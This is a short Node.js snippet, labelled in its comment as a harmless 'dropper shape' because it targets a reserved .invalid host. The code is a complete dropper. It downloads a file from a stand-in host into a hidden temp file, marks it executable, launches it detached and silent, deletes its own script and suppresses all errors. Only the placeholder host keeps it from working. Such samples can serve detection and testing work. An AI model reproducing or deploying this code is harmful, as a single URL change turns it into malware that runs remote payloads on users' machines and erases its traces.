// Dropper shape (harmless: reserved .invalid host, nothing is ever fetched).
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');
const { spawn } = require('child_process');

const target = path.join(os.tmpdir(), '.cache-' + process.pid);
https.get('https://d.example.invalid/agent', (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on('finish', () => {
    fs.chmodSync(target, 0o755);
    spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
    try { fs.unlinkSync(__filename); } catch (e) {}
  });
}).on('error', () => {});
